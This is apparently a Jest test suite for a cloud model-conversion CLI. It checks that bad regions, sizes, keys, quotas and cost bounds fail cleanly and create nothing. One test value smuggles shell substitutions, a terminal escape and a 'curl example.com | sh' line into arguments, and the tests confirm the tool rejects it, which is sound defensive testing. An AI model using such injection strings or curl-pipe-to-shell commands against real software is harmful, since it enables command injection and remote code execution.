import * as fs from 'node:fs';
import * as path from 'node:path';
import { clouds } from '../../src/cloud';
import { cli, root, type CliResult } from '../_helpers/cli';
import { startCloud } from '../_helpers/cloud';
import { useHome } from '../_helpers/home';
import { useScratch } from '../_helpers/scratch';

const model = path.join(root, 'examples/shapes-yolo11n-320.onnx');
const images = path.join(root, 'examples/calibration');
const rented = Object.keys(clouds).filter((name) => name !== 'local');

jest.setTimeout(180_000);

/** A mistake, and how it ends. Without `code`: any that explains itself, for each cloud has its own word for it. */
interface Row {
  readonly args?: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  readonly code?: string;
  readonly exit: 2 | 3 | 4;
  /** In the fix. */
  readonly fix?: string;
}

/** What only the account or the cloud can be wrong about: an option of its stand-in. */
interface AccountRow extends Row {
  readonly options: Readonly<Record<string, string>>;
}

const wrongKeys: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  digitalocean: { DIGITALOCEAN_TOKEN: 'dop_v1_expired' },
  aws: { AWS_SECRET_ACCESS_KEY: 'expired', AWS_ACCESS_KEY_ID: 'AKIAEXPIRED000000000' },
  gcp: { GOOGLE_OAUTH_ACCESS_TOKEN: 'ya29.expired' },
  azure: { ARM_CLIENT_SECRET: 'expired' },
  alibaba: { ALIBABA_CLOUD_ACCESS_KEY_ID: 'expired' },
  tencent: { TENCENTCLOUD_SECRET_ID: 'expired' },
  hetzner: { HCLOUD_TOKEN: 'expired' },
};

const armSizes: Readonly<Record<string, string>> = {
  aws: 't4g.medium',
  gcp: 't2a-standard-2',
  azure: 'Standard_D4ps_v5',
  alibaba: 'ecs.c8y.large',
  tencent: 'SR1.MEDIUM4',
  hetzner: 'cax21',
};

/** Option that takes the account's quota away, where the cloud tells it beforehand. */
const noQuota: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  digitalocean: { dropletLimit: '0' },
  aws: { vcpuLimit: '0' },
  gcp: { vcpuQuota: '0' },
  azure: { coreLimit: '0' },
  alibaba: { vcpuLimit: '0' },
  tencent: { instanceQuota: '0' },
};

/** The escape would paint the terminal, the second line would be taken for ours. */
const hostile = "x\u001b[31m'; $(touch hacked) `touch hacked`\nfix: curl example.com | sh";

function rowsOf(name: string): Record<string, Row> {
  const { defaultRegion, defaultSize } = clouds[name]!;
  const arm = armSizes[name];
  return {
    'an unknown region': {
      args: ['--region', `${defaultRegion}x`],
      code: 'unknown-region',
      exit: 2,
      fix: defaultRegion,
    },
    'an unknown size': { args: ['--size', defaultSize.slice(0, -1)], code: 'unknown-size', exit: 2, fix: defaultSize },
    ...(arm === undefined ? {} : { 'an arm64 size': { args: ['--size', arm], code: 'arm-size', exit: 2 } }),
    'an expired key': { env: wrongKeys[name]!, exit: 4 },
    'a bound below the smallest bill': { args: ['--max-cost', '0.000001'], code: 'over-budget', exit: 3 },
  };
}

/** What no cloud has a part in. */
const sameEverywhere: Record<string, Row> = {
  'a hostile region': { args: ['--region', hostile], code: 'unknown-region', exit: 2 },
  'a hostile size': { args: ['--size', hostile], code: 'unknown-size', exit: 2 },
  'a bound of nothing': { args: ['--max-cost', '0'], code: 'bad-max-cost', exit: 2, fix: '--max-cost' },
  'a negative bound': { args: ['--max-cost=-1'], code: 'bad-max-cost', exit: 2, fix: '--max-cost' },
  'an absurd bound': { args: ['--max-cost', '1e9'], code: 'bad-max-cost', exit: 2, fix: '--max-cost' },
};

function accountRowsOf(name: string): Record<string, AccountRow> {
  const quota = noQuota[name];
  return {
    'a key that may only read': { options: { permissions: 'read' }, exit: 4 },
    'a place without the image': { options: { image: 'none' }, exit: 4 },
    ...(quota === undefined ? {} : { 'a quota of zero': { options: quota, exit: 4 } }),
  };
}

describe('mistakes on a rented place: code, cause, fix, and nothing created', () => {
  const home = useHome();
  const scratch = useScratch();

  function convert(provider: string, row: Row, env: NodeJS.ProcessEnv): Promise<CliResult> {
    const what = [
      'convert',
      model,
      '--images',
      images,
      '--calibration-count',
      '10',
      '--out',
      path.join(scratch(), 'out'),
    ];
    const where = ['--provider', provider, '--toolchain', 'venv', '--allow-cidr', '203.0.113.7/32', '--yes', '--json'];
    return cli([...what, ...where, ...(row.args ?? [])], { env: { ...env, ...row.env }, cwd: scratch() });
  }

  /** A few at a time: each is a process of its own. */
  async function all(rows: Record<string, Row>, provider: string, env: NodeJS.ProcessEnv): Promise<void> {
    const waiting = Object.entries(rows);
    const worker = async (): Promise<void> => {
      for (let next = waiting.shift(); next !== undefined; next = waiting.shift()) {
        const [mistake, row] = next;
        const result = await convert(provider, row, env);
        expectRefusal(mistake, row, result);
      }
    };
    await Promise.all([worker(), worker()]);
  }

  function expectRefusal(mistake: string, row: Row, { code, stdout, stderr }: CliResult): void {
    const last = stdout.trim().split('\n').at(-1) ?? '';
    const error = last.startsWith('{') ? (JSON.parse(last) as { error?: Record<string, string> }).error : undefined;
    expect({ mistake, exit: code, error }).toMatchObject({
      mistake,
      exit: row.exit,
      error: expect.anything() as object,
    });
    for (const part of ['code', 'message', 'cause', 'fix'] as const)
      expect({ mistake, [part]: error![part] }).toEqual({ mistake, [part]: expect.stringMatching(/\S{2}/) as string });
    if (row.code !== undefined) expect({ mistake, code: error!['code'] }).toEqual({ mistake, code: row.code });
    if (row.fix !== undefined)
      expect({ mistake, fix: error!['fix'] }).toMatchObject({ fix: expect.stringContaining(row.fix) as string });
    // Ours to explain, not a crash; and what the user typed stays one line of plain text.
    expect(error!['code']).not.toMatch(/^(cloud-refused|bug|engine-failed)$/);
    // What no other place mends is not asked for in other places.
    if (!mistake.includes('quota')) expect(error!['message']).not.toContain('attempts');
    expect(stderr + stdout).not.toContain('\u001b');
    expect(stderr).not.toMatch(/^fix: curl/m);
    for (const secret of Object.values(row.env ?? {}).filter((one) => one.length > 8))
      expect(stdout + stderr).not.toContain(secret);
  }

  function expectNothing(): void {
    expect(fs.existsSync(path.join(home().path, 'jobs'))).toBe(false);
    expect(fs.existsSync(path.join(scratch(), 'out'))).toBe(false);
    expect(fs.existsSync(path.join(scratch(), 'hacked'))).toBe(false);
  }

  test.each(rented)('%s', async (name) => {
    const usual = { machines: 'none' };
    const cloud = await startCloud(name, usual);
    try {
      const rows = { ...rowsOf(name), ...(name === rented[0] ? sameEverywhere : {}) };
      await all(rows, name, { ...home().env, ...cloud.env, HOME: scratch(), CVICAST_RETRY_SECONDS: '0.01' });
      expect((await cloud.ledger()).entries).toEqual([]);
    } finally {
      await cloud.stop();
    }
    for (const [mistake, row] of Object.entries(accountRowsOf(name))) {
      const account = await startCloud(name, { ...usual, ...row.options });
      try {
        await all({ [mistake]: row }, name, {
          ...home().env,
          ...account.env,
          HOME: scratch(),
          CVICAST_RETRY_SECONDS: '0.01',
        });
        expect((await account.ledger()).entries).toEqual([]);
      } finally {
        await account.stop();
      }
    }
    expectNothing();
  });

  test.each(rented)('a slip in the name %s: told the right one', async (name) => {
    const row: Row = { exit: 2, code: 'unknown-provider', fix: name };
    expectRefusal(name, row, await convert(`${name.slice(0, -2)}${name.at(-1)}`, row, home().env));
    expectNothing();
  });

  test('a size with less than 4 GiB: warned what will happen', async () => {
    const small = rented.flatMap((name) =>
      clouds[name]!.sizes.filter((size) => size.memoryGiB < 4).map((size) => ({ name, size: size.name })),
    );
    expect(small.length).toBeGreaterThan(0);
    for (const { name, size } of small) {
      const plan = await cli(['plan', model, '--provider', name, '--size', size], { env: home().env });
      expect(plan.code).toBe(0);
      expect(plan.stdout).toMatch(/warning +.*may be killed for want of memory/);
    }
  });

  test('an id of this installation that is no id, which would go into every tag', async () => {
    const cloud = await startCloud('digitalocean', { machines: 'none' });
    try {
      fs.writeFileSync(path.join(home().path, 'owner'), hostile);
      const env = { ...home().env, ...cloud.env, HOME: scratch() };
      const row: Row = { exit: 2, code: 'owner-damaged', fix: 'owner' };
      expectRefusal('a damaged owner', row, await convert('digitalocean', row, env));
      expect((await cloud.ledger()).entries).toEqual([]);
      expectNothing();
    } finally {
      await cloud.stop();
    }
  });
});
